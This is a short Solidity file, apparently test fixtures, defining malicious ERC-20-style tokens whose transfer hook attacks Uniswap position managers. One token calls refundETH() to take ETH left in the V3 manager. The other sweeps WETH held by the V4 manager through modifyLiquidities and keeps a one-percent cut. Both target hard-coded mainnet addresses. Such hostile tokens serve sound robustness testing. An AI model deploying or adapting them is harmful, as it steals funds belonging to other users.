// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {HonestToken} from "./HostileTokens.sol";

/// Calls the V3 position manager back in each transfer, for the native coin that the sender sent along.
contract RobbingToken is HonestToken {
    function attack(address, address, uint256) internal override {
        (bool ok,) = 0xC36442b4a4522E871399CD717aBDD847Ab11FE88.call(abi.encodeWithSignature("refundETH()"));
        require(ok, "nothing to take");
    }

    receive() external payable {}
}

interface Positions {
    function modifyLiquidities(bytes calldata unlockData, uint256 deadline) external payable;
}

/// When it comes into the V4 position manager, sweeps the WETH there, and gives back all but a hundredth, so
/// that the mint still goes through.
contract SlackTakingToken is HonestToken {
    address private constant POSITIONS = 0xbD216513d74C8cf14cf4747E6AaA6420FF64ee9e;
    HonestToken private constant WETH = HonestToken(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);

    function attack(address, address to, uint256) internal override {
        if (to != POSITIONS) return;
        uint256 before = WETH.balanceOf(address(this));
        bytes[] memory params = new bytes[](1);
        params[0] = abi.encode(WETH, address(this));
        Positions(POSITIONS).modifyLiquidities(abi.encode(hex"14", params), block.timestamp);
        uint256 swept = WETH.balanceOf(address(this)) - before;
        WETH.transfer(POSITIONS, swept - swept / 100);
    }
}
